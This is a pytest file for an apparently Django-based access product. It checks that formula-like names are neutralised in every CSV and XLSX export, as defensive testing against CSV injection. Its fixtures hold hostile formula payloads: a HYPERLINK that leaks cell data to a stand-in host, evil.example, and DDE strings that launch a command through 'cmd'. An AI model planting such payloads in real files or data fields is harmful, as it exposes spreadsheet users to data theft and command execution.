"""Formula injection: a chain, centre, door or member name, a member number or a
staff username that starts like a formula reaches every CSV and XLSX file the product writes as
text: no cell is a formula, no cell starts with =, +, -, @, tab or CR (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from access.models import Door, ReportExport
from justface.exports import spreadsheet_cell, spreadsheet_row
from justface.tenancy import Role
from members.models import StaffRole
from tests.conftest import make_member
from tests.dpo.conftest import CPH, event

URL = "/staff/reports/access/"
MARCH = {"date_from": "2026-03-01", "date_to": "2026-03-31"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

CHAIN = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CENTRE = "+SUM(1+1)*cmd|' /C calc'!A0"
DOOR = "@SUM(1+1)"
NUMBER = "-1+1"
FIRST = '=cmd|" /C calc"!A0'
LAST = "\t=1+1"
USERNAME = "-2+3@evil"  # Django's username rule allows letters, digits and @ . + - _


@pytest.fixture(autouse=True)
def private_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "private"
    return settings.MEDIA_ROOT


@pytest.fixture
def hostile(world, django_user_model):
    """Chain A, its centre A1, a door, a member and a DPO, each named like a formula."""
    w = world
    w.chain_a.name = CHAIN
    w.chain_a.save()
    w.centre_a1.name = CENTRE
    w.centre_a1.save()
    w.door = Door.objects.create(centre=w.centre_a1, name=DOOR)
    w.member = make_member(w.chain_a, w.centre_a1, member_number=NUMBER, first_name=FIRST, last_name=LAST)
    user = django_user_model.objects.create_user(username=USERNAME, password="pw-evil", is_staff=True)
    StaffRole.objects.create(user=user, chain=w.chain_a, role=Role.DPO)
    w.users["evil"] = user
    for hour, direction in ((7, "in"), (9, "out")):
        event(
            w.centre_a1, member=w.member, door=w.door, at=datetime(2026, 3, 2, hour, 0, tzinfo=CPH), direction=direction
        )
    return w


def csv_cells(data: bytes | str) -> list[str]:
    text = data.decode() if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    return [cell.value for cell in cells if cell.value is not None]


def assert_inert(cells: list, *expected: str) -> None:
    """No cell starts a formula, and each hostile value is there, as quoted text."""
    live = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)]
    assert not live, f"cells a spreadsheet would run: {live}"
    text = "\n".join(str(c) for c in cells)
    for value in expected:
        assert "'" + value in text, f"{value!r} is missing"


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


REPORT_VALUES = (CHAIN, CENTRE, DOOR, NUMBER, USERNAME)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_from_the_staff_page(hostile, login, fmt):
    response = login("evil").post(URL, {**MARCH, "file_format": fmt})
    assert response.status_code == 200
    cells = csv_cells(content(response)) if fmt == "csv" else xlsx_cells(content(response))
    assert_inert(cells, *REPORT_VALUES)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_as_a_background_file(hostile, login, settings, django_capture_on_commit_callbacks, fmt):
    settings.JUSTFACE_REPORT_INLINE_ROWS = 0
    client = login("evil")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(URL, {**MARCH, "file_format": fmt})
    export = ReportExport.objects.get()
    assert export.status == "ready"
    data = client.get(f"/staff/reports/access/files/{export.pk}/download/").content
    assert_inert(csv_cells(data) if fmt == "csv" else xlsx_cells(data), *REPORT_VALUES)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_member_report(hostile, login, fmt):
    response = login("evil").get(f"/staff/reports/access/member/{hostile.member.pk}/?format={fmt}")
    assert response.status_code == 200
    data = content(response)
    assert_inert(csv_cells(data) if fmt == "csv" else xlsx_cells(data), *REPORT_VALUES)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_command(hostile, tmp_path, fmt):
    out = tmp_path / f"r.{fmt}"
    call_command(
        "access_report",
        "--chain",
        "alpha",
        "--from",
        "2026-03-01",
        "--to",
        "2026-03-31",
        "--format",
        fmt,
        "--output",
        str(out),
    )
    cells = csv_cells(out.read_text()) if fmt == "csv" else xlsx_cells(out.read_bytes())
    assert_inert(cells, CHAIN, CENTRE, DOOR, NUMBER)


def test_member_list_export(hostile, login):
    payload = {"action": "export_csv", "_selected_action": [hostile.member.pk]}
    response = login("manager_a").post("/admin/members/member/", payload)
    assert response["Content-Type"].startswith("text/csv")
    assert_inert(csv_cells(response.content), NUMBER, FIRST, LAST)


@pytest.mark.parametrize("chart", ["heatmap", "day", "month", "hourly"])
def test_statistics_numbers(hostile, login, chart):
    response = login("evil").get(
        f"/staff/statistics/{hostile.centre_a1.pk}/{chart}.csv?from=2026-03-01&to=2026-03-31&day=2026-03-02"
    )
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert_inert(cells)
    assert any(c not in ("", "0") for c in cells[5:])  # the numbers are there


def test_one_cell_rule():
    assert [spreadsheet_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "\uff1d1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "'\uff1d1",
    ]
    # Numbers stay numbers (a negative number is no formula); None is empty; XLSX-illegal
    # control characters go; ordinary text is untouched.
    assert spreadsheet_row([-3, 0.5, None, "Alpha\x01 One", "a=b", True]) == [-3, 0.5, "", "Alpha One", "a=b", "True"]
